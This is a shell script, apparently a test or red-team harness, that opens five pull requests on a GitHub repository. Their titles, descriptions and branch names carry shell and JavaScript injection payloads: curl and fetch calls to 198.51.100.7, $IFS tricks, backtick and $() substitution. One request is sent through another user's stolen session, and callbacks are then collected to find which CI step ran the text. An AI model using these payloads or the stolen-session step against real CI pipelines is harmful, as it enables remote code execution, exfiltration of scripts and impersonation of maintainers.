# Titles, descriptions and branch names in five pull requests. What runs sends its script, or its number, to 198.51.100.7.
# The last one comes from Aya's stolen session: who writes the words says nothing about what they do.
mark='Tide 7\8'
send='cat $0|curl -s -d @- 198.51.100.7'
call='curl${IFS}-s${IFS}198.51.100.7'
export open='
cd ~/tides
git push -q origin "HEAD:refs/heads/$branch" || exit 127
gh api repos/lantern-tides/tides/pulls -f head="$who:$branch" -f base=main -f title="$title" -f body="$body" --jq .number || exit 127'
export who=cuckoo
export title="$mark; $send/t1 #" body='${await fetch("http://198.51.100.7/b1")}' branch="a;$call/r1"
bash -c "$open" > numbers || exit 127
export title="$mark\"; $send/t2; #" body='`+(await fetch("http://198.51.100.7/b2"))+`' branch="b\$($call/r2)"
bash -c "$open" >> numbers || exit 127
export title="$mark' | $send/t5 #" body=$'one\nEOF\n$(curl -s 198.51.100.7/b5)\n`curl -s 198.51.100.7/b6`' branch="e'|$call/r5|'"
bash -c "$open" >> numbers || exit 127
export title="$mark \`$send/t4\`" body="'+(await fetch(\"http://198.51.100.7/b4\"))+'" branch="d\"&$call/r4&\""
bash -c "$open" >> numbers || exit 127
export who=aya title="$mark \$($send/t3)" body="\"+(await fetch('http://198.51.100.7/b3'))+\"" branch="c\`$call/r3\`"
as aya "$open" >> numbers || exit 127
sleep 5m
loot magpie > received
hits=$(sed -n 's|^198\.51\.100\.7 192\.0\.2\.[0-9]* [A-Z]* /\([tbr][1-6]\)$|\1|p' received)
if [ -z "$hits" ]; then
  say "Five pull requests came, with $(wc -l < numbers) titles and as many descriptions and branch names. None of them ran."
  exit 1
fi
say "Words of strangers ran:" $hits
evidence ci.logs "198.51.100.7 received $(echo $hits)"
# In which step: the log of the run that sent it shows the words in the script.
step() {
  number=$(sed -n "$2p" numbers)
  run=$(gh run list -R lantern-tides/tides -L 40 --json databaseId,displayTitle --jq "first(.[] | select(.displayTitle | contains(\"/t$2\")) | .databaseId)")
  gh run view "$run" -R lantern-tides/tides --log | grep -F "$1" | head -n 1 | cut -f 2
}
hit() { [[ " $(echo $hits) " == *" $1 "* ]]; }
first() { for it in $hits; do case $it in $1*) echo "${it#?}"; return;; esac; done; }
t=$(first t) b=$(first b) r=$(first r)
if [ -n "$t" ]; then
  step=$(step "/t$t" "$t")
  grep -A 1 " /t$t\$" received > sent
  if grep -qF 'Tide 7\\8' sent; then found JSON step="$step"
  elif ! grep -qF 'Tide 7\8' sent; then found EVAL step="$step"
  elif hit t1; then found TITLE step="$step"
  elif hit t2; then found QUOTED step="$step"
  elif hit t4; then found FILTER step="$step"
  else found TITLE step="$step"; fi
fi
[ -z "$r" ] || found BRANCH step="$(step "/r$r" "$r")"
[ -z "$b" ] || found BODY step="$(step "/b$b" "$b")"
exit 0
